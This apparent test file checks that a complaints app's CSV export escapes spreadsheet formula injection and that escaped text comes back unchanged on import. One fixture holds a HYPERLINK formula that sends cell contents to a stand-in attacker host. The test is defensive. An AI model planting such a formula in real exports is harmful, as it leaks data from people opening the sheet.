"""Text a spreadsheet would run as a formula (a resident's description beginning with "=",
say) leaves the export with an apostrophe before it and comes back from the import exactly
as it was (register-csv.md, "Text a spreadsheet would run")."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from putright.complaints.models import Complaint
from putright.registers.columns import EXPORT_COLUMNS
from putright.registers.generate import generate_rows, write_register
from putright.registers.importer import register_import
from putright.web.spreadsheets import would_run
from tests import factories
from tests.registers.support import TODAY, export_text, parse

pytestmark = pytest.mark.django_db

TEXT_COLUMNS = (
    "description",
    "service_area",
    "theme",
    "root_cause_detail",
    "ombudsman_reference",
    "handled_by",
)


def _raw_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_a_description_starting_with_a_formula_is_exported_as_text_and_read_back():
    landlord = factories.landlord("Formula Homes")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    factories.complaint(landlord, description=formula)

    exported = export_text(landlord)
    raw = _raw_rows(exported)[0]
    again = factories.landlord("Copy Homes")
    register_import(landlord=again, rows=parse(exported).rows)

    assert raw["description"] == "'" + formula
    assert Complaint.objects.get(landlord=again).description == formula
    assert _raw_rows(export_text(again))[0]["description"] == "'" + formula


def test_an_apostrophe_typed_before_a_formula_survives_the_round_trip():
    landlord = factories.landlord("Quote Homes")
    factories.complaint(landlord, description="'=1+1 is what I was told")

    exported = export_text(landlord)
    again = factories.landlord("Copy Homes")
    register_import(landlord=again, rows=parse(exported).rows)

    assert _raw_rows(exported)[0]["description"] == "''=1+1 is what I was told"
    assert Complaint.objects.get(landlord=again).description == "'=1+1 is what I was told"


# Text as the register holds it (trimmed, no NUL), drawn to start like a formula often.
_starts = st.sampled_from(["", "=", "+", "-", "@", "'", "''=", "\t", "\r", " =", "\n@", "\uff1d"])
_rest = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=20)
held_text = st.builds(lambda start, rest: (start + rest).strip(), _starts, _rest).filter(
    lambda text: len(text) <= 50
)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts=st.lists(held_text, min_size=len(TEXT_COLUMNS), max_size=len(TEXT_COLUMNS)))
def test_any_text_comes_back_from_export_then_import_exactly(texts):
    row = next(generate_rows(1, today=TODAY, seed=7))
    row.update(zip(TEXT_COLUMNS, texts, strict=True))
    out = io.StringIO(newline="")
    write_register(out, [row])
    first = factories.landlord()
    parsed = parse(out.getvalue())
    assert parsed.errors == []
    register_import(landlord=first, rows=parsed.rows)

    exported = export_text(first)
    raw = _raw_rows(exported)[0]
    second = factories.landlord()
    register_import(landlord=second, rows=parse(exported).rows)
    copy = _raw_rows(export_text(second))[0]

    assert not any(would_run(cell) for cell in raw.values())
    assert set(raw) == set(EXPORT_COLUMNS)
    assert parse(exported).rows[0].description == texts[0]
    assert Complaint.objects.get(landlord=second).description == texts[0]
    assert {name: copy[name] for name in TEXT_COLUMNS} == {name: raw[name] for name in TEXT_COLUMNS}
